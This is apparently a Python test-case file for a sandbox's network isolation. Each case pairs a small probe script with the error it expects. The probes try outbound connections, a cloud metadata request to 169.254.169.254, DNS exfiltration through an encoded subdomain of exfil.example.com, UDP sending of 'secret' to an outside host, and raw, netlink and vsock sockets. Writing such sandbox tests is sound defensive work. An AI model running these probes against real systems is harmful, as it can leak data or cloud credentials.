# Network cases (see catalog.py for the format). The sandbox has its own network namespace
# with only a loopback interface.
CASES = [
("NET-01", "network/egress", "[Errno 101] Network is unreachable",
r"""import socket
with socket.socket() as s:
    s.settimeout(3)
    s.connect(('93.184.216.34', 443))
"""),
("NET-02", "network/cloud metadata", "Network is unreachable for 169.254.169.254",
r"""import http.client
conn = http.client.HTTPConnection('169.254.169.254', 80, timeout=3)
conn.request('GET', '/computeMetadata/v1/')
print(conn.getresponse().read())
"""),
("NET-03", "network/DNS exfiltration", "socket.gaierror: nothing resolves",
r"""import socket
print(socket.getaddrinfo('c2VjcmV0.exfil.example.com', 53))
"""),
("NET-04", "network/UDP exfiltration", "[Errno 101] Network is unreachable",
r"""import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b'secret', ('9.9.9.9', 53))
"""),
("NET-05", "network/host loopback", "every port on 127.0.0.1 refuses: the loopback is the sandbox's own",
r"""import socket
for port in (22, 80, 5432, 6379, 8080):
    try:
        socket.create_connection(('127.0.0.1', port), timeout=2).close()
        print(port, 'answered BAD')
    except OSError as e:
        print(port, e)
"""),
("NET-06", "network/vsock", "[Errno 97] Address family not supported for AF_VSOCK",
r"""import socket
socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
"""),
("NET-07", "network/raw and packet", "AF_PACKET refused with EAFNOSUPPORT, raw IP with PermissionError",
r"""import socket
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    print('packet opened BAD')
except OSError as e:
    print('packet', e)
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
"""),
("NET-08", "network/netlink", "[Errno 97] Address family not supported for AF_NETLINK",
r"""import socket
socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 0)
"""),
("NET-09", "network/abstract unix sockets", "ConnectionRefusedError: the abstract namespace is the sandbox's own",
r"""import socket
with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
    s.connect('\0/run/dbus/system_bus_socket')
"""),
("NET-10", "network/ipv6", "Network is unreachable over IPv6",
r"""import socket
with socket.socket(socket.AF_INET6) as s:
    s.settimeout(3)
    s.connect(('2606:4700:4700::1111', 443))
"""),
]
